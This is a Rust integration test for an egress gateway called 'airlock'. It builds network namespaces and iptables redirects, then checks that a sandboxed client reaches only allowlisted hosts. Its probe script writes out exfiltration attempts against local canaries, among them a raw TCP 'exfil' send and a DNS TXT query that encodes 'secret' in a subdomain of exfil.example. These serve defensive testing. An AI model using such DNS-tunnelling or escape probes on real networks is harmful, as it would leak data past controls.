//! Gateway mode (`airlock proxy --transparent --dns`) in network namespaces this test
//! builds, never touching the host namespace's routes or firewall:
//!
//! * topology (a): `client` ── veth ── `gw` ── veth ── `wan`. The client's only route is
//!   the veth to `gw` (the shape of a Podman `--internal` network or a Kubernetes pod);
//!   `gw` runs the gateway, the TLS upstream on its loopback and a firewall that REDIRECTs
//!   the client's TCP and DNS to the gateway; `wan` stands for the outside world and holds
//!   canary listeners on the addresses a direct attempt would target. `gw` forwards
//!   nothing (`ip_forward=0`).
//! * topology (b): one namespace, an OUTPUT REDIRECT (nat table) of one uid's TCP and
//!   DNS to the gateway; another uid is not captured.
//!
//! Namespaces get unique names per run and are deleted (their processes killed) on drop,
//! even when an assertion fails.

use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use crate::support::clients::run_bounded;
use crate::support::pki::TestPki;
use serde_json::Value;

/// How long one topology's script may take.
const SCRIPT_TIMEOUT: Duration = Duration::from_secs(90);

/// Network namespaces created by one test: deleted, with every process inside killed,
/// when dropped. Also removes the `/etc/netns/NAME` directories `ip netns exec` reads.
pub(crate) struct Namespaces {
    pub(crate) names: Vec<String>,
}

impl Drop for Namespaces {
    fn drop(&mut self) {
        for name in &self.names {
            if let Ok(output) = Command::new("ip").args(["netns", "pids", name]).output() {
                for pid in String::from_utf8_lossy(&output.stdout).split_whitespace() {
                    let _ = Command::new("kill").args(["-9", pid]).status();
                }
            }
            let _ = Command::new("ip").args(["netns", "del", name]).status();
            let _ = std::fs::remove_dir_all(Path::new("/etc/netns").join(name));
        }
    }
}

/// Whether this test can build namespaces and nat rules; prints why not when it cannot
/// (a failure under `AIRLOCK_TEST_REQUIRE`: [`crate::support::skip_or_fail`]).
pub(crate) fn namespaces_and_nat_available(test: &str) -> bool {
    let probe = format!("alk{}-{}", std::process::id() % 100_000, test.len());
    let script = format!(
        "ip netns add {probe} && ip netns exec {probe} iptables -t nat -L -n >/dev/null; \
         status=$?; ip netns del {probe} 2>/dev/null; exit $status"
    );
    let output = Command::new("sh").args(["-c", &script]).output();
    match output {
        Ok(output) if output.status.success() => true,
        Ok(output) => crate::support::skip_or_fail(&format!(
            "{test}: cannot create a network namespace with a nat table \
             (run as root with iproute2 and iptables installed): {}",
            String::from_utf8_lossy(&output.stderr).trim()
        )),
        Err(e) => crate::support::skip_or_fail(&format!("{test}: cannot run sh: {e}")),
    }
}

/// The canary listeners shared with `run_escape_canaries.rs` (usage in the script).
const CANARIES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/canaries.py");

/// A TLS upstream on `argv[1]:argv[2]` answering `upstream PATH`; writes `argv[5]` once up.
pub(crate) const UPSTREAM: &str = r#"
import http.server, ssl, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = ("upstream " + self.path).encode()
        self.send_response(200); self.send_header("Content-Length", str(len(body))); self.end_headers()
        self.wfile.write(body)
    def log_message(self, *a): pass
server = http.server.ThreadingHTTPServer((sys.argv[1], int(sys.argv[2])), H)
context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); context.load_cert_chain(sys.argv[3], sys.argv[4])
server.socket = context.wrap_socket(server.socket, server_side=True)
open(sys.argv[5], "w").write("up")
server.serve_forever()
"#;

/// Probes run as the client: raw TCP, UDP and a DNS TXT query, each printing one result.
const PROBES: &str = r#"
import socket, struct, sys
def tcp(addr, port, payload):
    s = socket.socket(); s.settimeout(5)
    try:
        s.connect((addr, port)); s.sendall(payload); data = s.recv(100)
        return "answered" if data else "closed"
    except OSError: return "failed"
target = sys.argv[1]
print("TCP2222=" + tcp(target, 2222, b"\x00\x01exfil\n"))
if len(sys.argv) > 2:
    print("OWN_NAMELESS=" + tcp(sys.argv[2], 443, b"\x00\x01no name here\n"))
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(1)
try:
    u.sendto(b"quic-initial", (target, 443)); u.recvfrom(100); print("UDP443=answered")
except OSError: print("UDP443=nothing")
name = b"".join(bytes([len(p)]) + p for p in b"c2VjcmV0.exfil.example".split(b".")) + b"\0"
q = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0) + name + struct.pack(">HH", 16, 1)
d = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); d.settimeout(5)
try:
    d.sendto(q, (target, 53)); reply, _ = d.recvfrom(4096)
    print("DNS=answers%d" % struct.unpack(">H", reply[6:8])[0])
except OSError: print("DNS=nothing")
"#;

/// Files and paths one topology's script uses.
struct Scratch {
    _dir: tempfile::TempDir,
    root: PathBuf,
}

impl Scratch {
    fn new() -> Scratch {
        let dir = tempfile::tempdir().expect("tempdir");
        let root = dir.path().to_owned();
        std::fs::copy(CANARIES, root.join("canaries.py")).expect("canaries");
        std::fs::write(root.join("upstream.py"), UPSTREAM).expect("upstream");
        std::fs::write(root.join("probes.py"), PROBES).expect("probes");
        // Readable by the unprivileged uid of topology (b).
        std::fs::set_permissions(&root, std::os::unix::fs::PermissionsExt::from_mode(0o755))
            .expect("chmod scratch");
        Scratch { _dir: dir, root }
    }

    fn path(&self, name: &str) -> PathBuf {
        self.root.join(name)
    }

    /// The canaries' contacts, sorted (the listeners run on separate threads).
    fn hits(&self) -> Vec<String> {
        let mut hits: Vec<String> = std::fs::read_to_string(self.path("hits"))
            .unwrap_or_default()
            .lines()
            .map(str::to_owned)
            .collect();
        hits.sort();
        hits
    }

    fn audit(&self) -> Vec<Value> {
        std::fs::read_to_string(self.path("audit.jsonl"))
            .unwrap_or_default()
            .lines()
            .filter_map(|line| serde_json::from_str(line).ok())
            .collect()
    }
}

/// Shell helpers shared by both topologies: `wait_for FILE` (bounded), the gateway's
/// command line in `$AIRLOCK_GATEWAY` (its arguments follow).
const SCRIPT_PRELUDE: &str = r#"
set -eu
trap 'kill $(jobs -p) 2>/dev/null || true' EXIT
wait_for() { i=0; while [ ! -s "$1" ] && [ $i -lt 200 ]; do sleep 0.05; i=$((i+1)); done; [ -s "$1" ]; }
wait_for_line() { i=0; while ! grep -q "$2" "$1" 2>/dev/null && [ $i -lt 200 ]; do sleep 0.05; i=$((i+1)); done; grep -q "$2" "$1"; }
"#;

/// Runs `script` with the variables of `scratch` and `pki` set; returns stdout.
fn run_script(script: &str, scratch: &Scratch, pki: &TestPki) -> String {
    let mut command = Command::new("sh");
    command
        .args(["-c", &format!("{SCRIPT_PRELUDE}\n{script}")])
        .current_dir(&scratch.root)
        .env("S", &scratch.root)
        .env("AIRLOCK", env!("CARGO_BIN_EXE_airlock"))
        .env("PROXY_CA", &pki.proxy_ca_cert)
        .env("PROXY_KEY", &pki.proxy_ca_key)
        .env("UPSTREAM_CA", &pki.upstream_ca_cert)
        .env("UPSTREAM_CERT", &pki.upstream_leaf_cert)
        .env("UPSTREAM_KEY", &pki.upstream_leaf_key)
        .env("AIRLOCK_HOME", scratch.path("home"));
    let output = run_bounded(&mut command, SCRIPT_TIMEOUT);
    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
    let gateway_err = std::fs::read_to_string(scratch.path("gateway.err")).unwrap_or_default();
    assert!(
        output.status.is_some_and(|status| status.success()),
        "the topology script failed:\nstdout:\n{stdout}\nstderr:\n{}\ngateway stderr:\n{gateway_err}",
        output.stderr
    );
    stdout
}

fn denied(audit: &[Value], host: &str) -> bool {
    audit
        .iter()
        .any(|line| line["decision"] == "deny" && line["host"] == host)
}

#[test]
fn client_namespace_reaches_only_allowed_hosts_through_the_gateway() {
    let test = "client_namespace_reaches_only_allowed_hosts_through_the_gateway";
    if !namespaces_and_nat_available(test) {
        return;
    }
    let tag = format!("alk{}", std::process::id() % 100_000);
    let (gw, client, wan) = (
        format!("{tag}-gw"),
        format!("{tag}-cl"),
        format!("{tag}-wan"),
    );
    let _namespaces = Namespaces {
        names: vec![gw.clone(), client.clone(), wan.clone()],
    };
    let pki = TestPki::new();
    let scratch = Scratch::new();
    // The client's resolver is the gateway (ip netns exec bind-mounts this file).
    let etc = Path::new("/etc/netns").join(&client);
    std::fs::create_dir_all(&etc).expect("/etc/netns");
    std::fs::write(etc.join("resolv.conf"), "nameserver 10.231.0.1\n").expect("resolv.conf");

    let script = gateway_script(&gw, &client, &wan, &tag);
    let stdout = run_script(&script, &scratch, &pki);
    let audit = scratch.audit();
    let context = format!("stdout:\n{stdout}\naudit:\n{audit:#?}");
    assert_client_outcomes(&stdout, &context);
    // Only the two controls reached the canaries.
    let hits = scratch.hits();
    assert_eq!(
        hits,
        vec![
            "tcp 10.232.0.2:2222 from 10.232.0.1".to_owned(),
            "udp 10.232.0.2:443 from 10.232.0.1".to_owned()
        ],
        "a client attempt reached a canary (or a control did not): {context}"
    );
    assert_gateway_audit(&audit, &context);
}

/// Topology (a)'s script: builds the namespaces, the firewall, the canaries, the upstream
/// and the gateway, then runs the client's attempts, each printing one `NAME=result`.
fn gateway_script(gw: &str, client: &str, wan: &str, tag: &str) -> String {
    format!(
        r#"
GW={gw}; CL={client}; WAN={wan}; T={tag}
ip netns add $GW; ip netns add $CL; ip netns add $WAN
ip link add ${{T}}c type veth peer name ${{T}}g
ip link set ${{T}}c netns $CL; ip link set ${{T}}g netns $GW
ip link add ${{T}}w type veth peer name ${{T}}x
ip link set ${{T}}w netns $GW; ip link set ${{T}}x netns $WAN
G="ip netns exec $GW"; C="ip netns exec $CL"; W="ip netns exec $WAN"
$G ip link set lo up
$G ip addr add 10.231.0.1/24 dev ${{T}}g; $G ip link set ${{T}}g up
$G ip addr add 10.232.0.1/24 dev ${{T}}w; $G ip link set ${{T}}w up
$G sysctl -qw net.ipv4.ip_forward=0
$C ip link set lo up
$C ip addr add 10.231.0.2/24 dev ${{T}}c; $C ip link set ${{T}}c up
$C ip route add default via 10.231.0.1
$W ip link set lo up
$W ip addr add 10.232.0.2/24 dev ${{T}}x; $W ip link set ${{T}}x up
# The gateway namespace's firewall: the client's TCP and DNS go to airlock (443 on the
# gateway's own address stays: the routed-to-the-gateway path), other UDP is dropped.
$G iptables -t nat -A PREROUTING -i ${{T}}g -d 10.231.0.1 -p tcp --dport 443 -j RETURN
$G iptables -t nat -A PREROUTING -i ${{T}}g -p tcp -j REDIRECT --to-ports 15001
$G iptables -t nat -A PREROUTING -i ${{T}}g -p udp --dport 53 -j REDIRECT --to-ports 5353
$G iptables -t mangle -A PREROUTING -i ${{T}}g -p udp ! --dport 53 -j DROP

$W python3 $S/canaries.py $S/hits $S/canaries-up tcp:10.232.0.2:443 tcp:10.232.0.2:2222 \
    udp:10.232.0.2:53 udp:10.232.0.2:443 >/dev/null 2>&1 &
wait_for $S/canaries-up
# Controls from the gateway namespace: the canaries answer.
$G python3 -c "import socket; socket.create_connection(('10.232.0.2', 2222), 2).close(); \
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'control', ('10.232.0.2', 443))"
$G python3 $S/upstream.py 127.0.0.1 443 $UPSTREAM_CERT $UPSTREAM_KEY $S/upstream-up >/dev/null 2>&1 &
wait_for $S/upstream-up
$G $AIRLOCK proxy --allow allowed.test:443 --resolve allowed.test:127.0.0.1 \
    --upstream-ca $UPSTREAM_CA --ca-cert $PROXY_CA --ca-key $PROXY_KEY --log $S/audit.jsonl \
    --transparent 10.231.0.1:15001 --transparent 10.231.0.1:443 --dns 10.231.0.1:5353 \
    >/dev/null 2>$S/gateway.err &
wait_for_line $S/gateway.err "dns listening"
sleep 0.3

CURL="curl -sS --max-time 10 --cacert $PROXY_CA -o $S/body"
$C $CURL https://allowed.test/via-dns -w 'ALLOWED=%{{http_code}}\n' || true
echo "BODY=$(cat $S/body)"
$C $CURL --resolve allowed.test:443:10.231.0.1 https://allowed.test/routed -w 'ROUTED=%{{http_code}}\n' || true
$C $CURL https://other.test/ -w 'REFUSED_NAME=%{{http_code}}\n' || true
$C $CURL --resolve other.test:443:10.231.0.1 https://other.test/ -w 'ROUTED_REFUSED=%{{http_code}}\n' || true
$C $CURL https://10.232.0.2/ -w 'DIRECT_IP=%{{http_code}}\n' || true
$C $CURL --connect-timeout 5 --noproxy '*' https://1.1.1.1/ -w 'PUBLIC_IP=%{{http_code}}\n' || true
$C python3 $S/probes.py 10.232.0.2 10.231.0.1
echo "UDP_DROPPED=$($G iptables -t mangle -L PREROUTING -v -x -n | awk '/DROP/ {{print $1}}')"
sleep 0.5
"#
    )
}

/// What the client saw in topology (a): the allowed requests passed, everything else was
/// refused or went nowhere, and the UDP drop rule counted the QUIC attempt.
fn assert_client_outcomes(stdout: &str, context: &str) {
    // Allowed, by name from the gateway's DNS (pool address REDIRECTed) and routed to the
    // gateway's own address (name from SNI).
    assert!(stdout.contains("ALLOWED=200"), "{context}");
    assert!(stdout.contains("BODY=upstream /via-dns"), "{context}");
    assert!(stdout.contains("ROUTED=200"), "{context}");
    // Refused: another name both ways, a direct private IP, a public IP (fails closed:
    // refused by the gateway, never routed).
    assert!(stdout.contains("REFUSED_NAME=403"), "{context}");
    assert!(stdout.contains("ROUTED_REFUSED=403"), "{context}");
    assert!(stdout.contains("DIRECT_IP=403"), "{context}");
    assert!(stdout.contains("PUBLIC_IP=403"), "{context}");
    assert!(!stdout.contains("TCP2222=answered"), "{context}");
    assert!(!stdout.contains("OWN_NAMELESS=answered"), "{context}");
    assert!(stdout.contains("UDP443=nothing"), "{context}");
    // The DNS exfiltration attempt aimed at the outside address is answered by airlock
    // (REDIRECTed), with no answer record, never forwarded.
    assert!(stdout.contains("DNS=answers0"), "{context}");
    let udp_dropped: u64 = stdout
        .lines()
        .find_map(|line| line.strip_prefix("UDP_DROPPED="))
        .and_then(|count| count.trim().parse().ok())
        .unwrap_or(0);
    assert!(
        udp_dropped >= 1,
        "the UDP drop rule counted nothing: {context}"
    );
}

/// Topology (a)'s audit log: everything refused is logged, with the raw TCP attempt, the
/// nameless connection and the exfiltration query, and the allowed request.
fn assert_gateway_audit(audit: &[Value], context: &str) {
    // Everything refused is logged.
    for host in ["other.test", "10.232.0.2", "1.1.1.1", "10.231.0.1"] {
        assert!(
            denied(audit, host),
            "no refusal logged for {host}: {context}"
        );
    }
    assert!(
        audit.iter().any(|line| line["decision"] == "deny"
            && line["host"] == "10.232.0.2"
            && line["port"] == 2222),
        "the raw TCP attempt is logged: {context}"
    );
    assert!(
        audit.iter().any(|line| line["decision"] == "deny"
            && line["host"] == "10.231.0.1"
            && line["reason"] == "host_mismatch"),
        "the nameless connection to the gateway's own address is refused: {context}"
    );
    assert!(
        audit.iter().any(|line| line["kind"] == "dns"
            && line["qtype"] == "TXT"
            && line["name"]
                .as_str()
                .is_some_and(|name| name.eq_ignore_ascii_case("c2VjcmV0.exfil.example"))),
        "the exfiltration query is logged: {context}"
    );
    assert!(
        audit
            .iter()
            .any(|line| line["decision"] == "allow" && line["host"] == "allowed.test"),
        "{context}"
    );
}

#[test]
fn output_redirect_captures_one_uid_and_leaves_another_alone() {
    let test = "output_redirect_captures_one_uid_and_leaves_another_alone";
    if !namespaces_and_nat_available(test) {
        return;
    }
    let host_ns = format!("alk{}-host", std::process::id() % 100_000);
    let _namespaces = Namespaces {
        names: vec![host_ns.clone()],
    };
    let pki = TestPki::new();
    let scratch = Scratch::new();
    let etc = Path::new("/etc/netns").join(&host_ns);
    std::fs::create_dir_all(&etc).expect("/etc/netns");
    std::fs::write(etc.join("resolv.conf"), "nameserver 10.233.0.1\n").expect("resolv.conf");

    let script = format!(
        r#"
H="ip netns exec {host_ns}"
ip netns add {host_ns}
$H ip link set lo up
$H ip link add out0 type veth peer name out1
$H ip link set out1 up
$H ip addr add 10.233.0.1/24 dev out0; $H ip link set out0 up
$H ip route add default dev out0
# uid 64123's TCP (and DNS) goes to airlock; airlock itself runs as root.
$H iptables -t nat -A OUTPUT -m owner --uid-owner 64123 -p tcp -j REDIRECT --to-ports 15001
$H iptables -t nat -A OUTPUT -m owner --uid-owner 64123 -p udp --dport 53 -j REDIRECT --to-ports 5353
$H python3 $S/canaries.py $S/hits $S/canaries-up tcp:10.233.0.1:2222 >/dev/null 2>&1 &
wait_for $S/canaries-up
$H python3 $S/upstream.py 127.0.0.1 443 $UPSTREAM_CERT $UPSTREAM_KEY $S/upstream-up >/dev/null 2>&1 &
wait_for $S/upstream-up
$H $AIRLOCK proxy --allow allowed.test:443 --resolve allowed.test:127.0.0.1 \
    --upstream-ca $UPSTREAM_CA --ca-cert $PROXY_CA --ca-key $PROXY_KEY --log $S/audit.jsonl \
    --transparent 127.0.0.1:15001 --dns 127.0.0.1:5353 >/dev/null 2>$S/gateway.err &
wait_for_line $S/gateway.err "dns listening"
sleep 0.3
AS_AGENT="setpriv --reuid 64123 --regid 64123 --clear-groups"
$H $AS_AGENT curl -sS --max-time 10 --cacert $PROXY_CA -o /dev/null https://allowed.test/ -w 'AGENT_ALLOWED=%{{http_code}}\n' || true
$H $AS_AGENT curl -sS --max-time 10 --cacert $PROXY_CA -o /dev/null https://other.test/ -w 'AGENT_REFUSED=%{{http_code}}\n' || true
$H $AS_AGENT /usr/bin/python3 -c "import socket
s = socket.socket(); s.settimeout(5); s.connect(('10.233.0.1', 2222)); s.sendall(b'x'); print('AGENT_RAW=' + ('answered' if s.recv(10) else 'closed'))" || echo AGENT_RAW=failed
# Another uid is not captured: it reaches the canary directly.
$H setpriv --reuid 64124 --regid 64124 --clear-groups /usr/bin/python3 -c "import socket
socket.create_connection(('10.233.0.1', 2222), 2).close(); print('OTHER_UID=direct')"
sleep 0.5
"#
    );
    let stdout = run_script(&script, &scratch, &pki);
    let audit = scratch.audit();
    let context = format!("stdout:\n{stdout}\naudit:\n{audit:#?}");
    assert!(stdout.contains("AGENT_ALLOWED=200"), "{context}");
    assert!(stdout.contains("AGENT_REFUSED=403"), "{context}");
    assert!(!stdout.contains("AGENT_RAW=answered"), "{context}");
    assert!(stdout.contains("OTHER_UID=direct"), "{context}");
    assert_eq!(
        scratch.hits(),
        vec!["tcp 10.233.0.1:2222 from 10.233.0.1".to_owned()],
        "only the uncaptured uid reaches the canary: {context}"
    );
    assert!(denied(&audit, "other.test"), "{context}");
    assert!(
        audit.iter().any(|line| line["decision"] == "deny"
            && line["host"] == "10.233.0.1"
            && line["port"] == 2222),
        "{context}"
    );
    assert!(
        audit
            .iter()
            .any(|line| line["kind"] == "dns" && line["name"] == "allowed.test"),
        "the agent's DNS went to the gateway: {context}"
    );
}
